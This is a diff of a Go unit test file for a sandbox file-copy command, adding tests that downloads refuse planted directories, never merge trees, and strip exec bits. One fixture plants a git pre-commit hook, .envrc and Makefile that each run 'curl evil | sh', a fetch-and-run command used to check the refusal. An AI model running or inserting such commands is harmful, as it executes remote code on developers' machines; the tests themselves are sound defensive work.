@@ -10,6 +10,7 @@ import (
 	"os"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -303,32 +304,118 @@ var _ = Describe("kubectl sandbox", Label("unit"), func() {
 			Expect(string(r.Body)).To(Equal("#!/bin/sh\n"))
 		})
 
-		It("downloads and extracts a tree", func() {
+		// serve answers downloads with a tar of entries.
+		serve := func(entries ...entry) {
 			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) {
 				w.Header().Set("Trailer", "Sandbox-Transfer-Error")
-				_, _ = io.Copy(w, tarOf(dir("out/"), file("out/r.txt", "result")))
+				_, _ = io.Copy(w, tarOf(entries...))
 			})
+		}
+
+		It("downloads a tree asked for with a trailing /, as a new directory", func() {
+			serve(dir("out/"), file("out/r.txt", "result"))
 			dst := filepath.Join(GinkgoT().TempDir(), "local")
-			code, _, stderr := c.run("", "cp", "box:/app/out", dst)
+			code, _, stderr := c.run("", "cp", "box:/app/out/", dst)
 			Expect(code).To(BeZero(), stderr)
 			Expect(readFile(filepath.Join(dst, "r.txt"))).To(Equal("result"))
 			r := c.last()
 			Expect(r.Method).To(Equal(http.MethodGet))
 			Expect(r.Path).To(Equal(aggregated + "files"))
-			Expect(r.Query.Get("path")).To(Equal("/app/out"))
+			Expect(r.Query.Get("path")).To(Equal("/app/out/"))
+
+			// Again into the now existing directory: a new local/out.
+			code, _, stderr = c.run("", "cp", "box:/app/out/", dst)
+			Expect(code).To(BeZero(), stderr)
+			Expect(readFile(filepath.Join(dst, "out", "r.txt"))).To(Equal("result"))
+
+			// A third time: local/out exists, and trees are never merged.
+			before := listing(dst)
+			code, _, stderr = c.run("", "cp", "--overwrite", "box:/app/out/", dst)
+			Expect(code).To(Equal(1))
+			Expect(stderr).To(ContainSubstring("never merged"))
+			Expect(listing(dst)).To(Equal(before))
 		})
 
-		It("fails a download cut off by the node, saying the copy is incomplete", func() {
+		It("refuses a directory planted where a file was asked for, writing nothing", func() {
+			// The sandbox turned /app/report.txt into a directory of
+			// things that run on the host once merged into a project.
+			serve(dir("report.txt/"), dir("report.txt/.git/"), dir("report.txt/.git/hooks/"),
+				entry{name: "report.txt/.git/hooks/pre-commit", typeflag: tar.TypeReg, body: "#!/bin/sh\ncurl evil | sh\n", mode: 0o755},
+				file("report.txt/.envrc", "curl evil | sh\n"), file("report.txt/Makefile", "all:\n\tcurl evil | sh\n"))
+			project := GinkgoT().TempDir()
+			Expect(os.MkdirAll(filepath.Join(project, ".git", "hooks"), 0o755)).To(Succeed())
+			Expect(os.WriteFile(filepath.Join(project, "Makefile"), []byte("mine\n"), 0o644)).To(Succeed())
+			before := listing(project)
+			for _, args := range [][]string{
+				{"cp", "box:/app/report.txt", project},
+				{"cp", "box:/app/report.txt", project + "/"},
+				{"cp", "--overwrite", "--preserve-exec", "box:/app/report.txt", filepath.Join(project, "report.txt")},
+			} {
+				code, _, stderr := c.run("", args...)
+				Expect(code).To(Equal(1), "%v", args)
+				Expect(stderr).To(ContainSubstring("/app/report.txt is a directory in the sandbox, but a file was asked for"), "%v", args)
+				Expect(listing(project)).To(Equal(before), "%v", args)
+			}
+		})
+
+		It("refuses a file where a directory was asked for", func() {
+			serve(file("out", "x"))
+			dst := filepath.Join(GinkgoT().TempDir(), "local")
+			code, _, stderr := c.run("", "cp", "box:/app/out/", dst)
+			Expect(code).To(Equal(1))
+			Expect(stderr).To(ContainSubstring("/app/out/ is a file in the sandbox, but a directory was asked for"))
+			Expect(dst).NotTo(BeAnExistingFile())
+		})
+
+		It("replaces an existing file only with --overwrite", func() {
+			serve(file("r.txt", "theirs"))
+			dst := filepath.Join(GinkgoT().TempDir(), "r.txt")
+			Expect(os.WriteFile(dst, []byte("mine"), 0o644)).To(Succeed())
+			code, _, stderr := c.run("", "cp", "box:/app/r.txt", dst)
+			Expect(code).To(Equal(1))
+			Expect(stderr).To(ContainSubstring("exists"))
+			Expect(readFile(dst)).To(Equal("mine"))
+			code, _, stderr = c.run("", "cp", "box:/app/r.txt", dst, "--overwrite")
+			Expect(code).To(BeZero(), stderr)
+			Expect(readFile(dst)).To(Equal("theirs"))
+		})
+
+		It("drops exec bits and group/world write unless --preserve-exec", func() {
+			old := syscall.Umask(0o022)
+			DeferCleanup(func() { syscall.Umask(old) })
+			serve(entry{name: "tool", typeflag: tar.TypeReg, body: "x", mode: 0o777})
+			base := GinkgoT().TempDir()
+			code, _, stderr := c.run("", "cp", "box:/app/tool", filepath.Join(base, "plain"))
+			Expect(code).To(BeZero(), stderr)
+			code, _, stderr = c.run("", "cp", "--preserve-exec", "box:/app/tool", filepath.Join(base, "exec"))
+			Expect(code).To(BeZero(), stderr)
+			fi, err := os.Stat(filepath.Join(base, "plain"))
+			Expect(err).NotTo(HaveOccurred())
+			Expect(fi.Mode()).To(Equal(os.FileMode(0o644)))
+			fi, err = os.Stat(filepath.Join(base, "exec"))
+			Expect(err).NotTo(HaveOccurred())
+			Expect(fi.Mode()).To(Equal(os.FileMode(0o755)))
+		})
+
+		It("refuses the download flags on uploads", func() {
+			code, _, stderr := c.run("", "cp", "--overwrite", GinkgoT().TempDir(), "box:/app/x")
+			Expect(code).To(Equal(1))
+			Expect(stderr).To(ContainSubstring("apply to downloads"))
+		})
+
+		It("fails a download cut off by the node, writing nothing", func() {
 			c.answer(func(w http.ResponseWriter, _ *http.Request, _ []byte) {
 				w.Header().Set("Trailer", "Sandbox-Transfer-Error")
 				_, _ = io.Copy(w, tarOf(dir("out/"), file("out/a", "a")))
 				w.Header().Set("Sandbox-Transfer-Error", "too large: the download exceeds 8388608 bytes")
 			})
-			dst := filepath.Join(GinkgoT().TempDir(), "local")
-			code, _, stderr := c.run("", "cp", "box:/app/out", dst)
+			base := GinkgoT().TempDir()
+			dst := filepath.Join(base, "local")
+			code, _, stderr := c.run("", "cp", "box:/app/out/", dst)
 			Expect(code).To(Equal(1))
 			Expect(stderr).To(ContainSubstring("failed part-way: too large"))
-			Expect(stderr).To(ContainSubstring("is incomplete"))
+			Expect(stderr).To(ContainSubstring("nothing was written to " + dst))
+			Expect(listing(base)).To(Equal([]string{". drwx------"}))
 		})
 
 		It("reports a missing sandbox path", func() {
